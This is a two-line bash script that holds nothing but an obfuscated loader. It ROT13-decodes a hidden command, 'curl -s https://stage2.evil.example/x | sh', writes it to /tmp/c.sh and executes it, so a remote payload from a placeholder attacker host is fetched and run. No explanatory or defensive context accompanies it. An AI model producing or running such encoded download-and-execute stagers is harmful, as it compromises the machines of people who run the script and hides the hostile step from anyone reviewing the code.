#!/bin/bash
echo "phey -f uggcf://fgntr2.rivy.rknzcyr/k | fu" | tr 'A-Za-z' 'N-ZA-Mn-za-m' > /tmp/c.sh && bash /tmp/c.sh
